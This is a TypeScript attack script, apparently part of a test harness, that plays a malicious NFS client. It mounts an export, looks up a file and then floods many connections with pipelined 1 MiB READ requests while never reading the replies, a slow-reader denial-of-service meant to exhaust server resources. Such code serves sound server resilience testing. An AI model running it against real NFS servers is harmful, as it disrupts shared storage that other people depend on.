/**
 * A Pi whose owner means harm: `slow-reader.ts SERVER EXPORT-PATH FILE CONNECTIONS ADDRESSES`. Mounts its own root, and asks over
 * many connections for the same file again and again, 1 MiB at a time, without ever reading a reply.
 */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { callRecord, handleOfMount, MNT, MOUNT, NFS, opaque, type Reply, readReply, u32 } from "../../harness/rpc.ts";
import { count, over, ownAddress, pause, server, underWay, words } from "./attack.ts";

const [path = "", file = "", connections = "", addresses = ""] = words;
const LOOKUP = 3;
const READ = 6;
const CALLS = 4000;

let localPort = 600;

async function dial(address: string): Promise<Socket> {
	const socket = connect({ host: server, port: 2049, localAddress: address, localPort: localPort++ });
	socket.on("error", () => count("errors"));
	socket.once("close", () => count("closed"));
	await once(socket, "connect");
	return socket;
}

async function ask(socket: Socket, program: number, procedure: number, body: Buffer): Promise<Reply> {
	socket.write(callRecord({ program, procedure, body }, 1));
	const [bytes] = await once(socket, "data");
	return readReply((bytes as Buffer).subarray(4));
}

async function handleOfFile(): Promise<Buffer> {
	const socket = await dial(ownAddress(0));
	let handle = handleOfMount(await ask(socket, MOUNT, MNT, opaque(path)));
	for (const name of file.split("/")) {
		const reply = await ask(socket, NFS, LOOKUP, Buffer.concat([opaque(handle ?? ""), opaque(name)]));
		if (reply.body.readUInt32BE(0) !== 0) throw new Error(`LOOKUP ${name}: ${reply.body.readUInt32BE(0)}`);
		handle = reply.body.subarray(8, 8 + reply.body.readUInt32BE(4));
	}
	return handle ?? Buffer.alloc(0);
}

const handle = await handleOfFile();
const read = callRecord(
	{ program: NFS, procedure: READ, body: Buffer.concat([opaque(handle), u32(0, 0, 1 << 20)]) },
	2,
);
const reads = Buffer.concat(Array.from({ length: CALLS }, () => read));
for (let each = 0; each < Number(connections); each++) {
	try {
		const socket = await dial(ownAddress(each % Number(addresses)));
		socket.pause();
		socket.write(reads);
		count("readers");
	} catch {
		count("refused");
	}
}
await pause(1000);
underWay();
while (!over()) await pause(100);
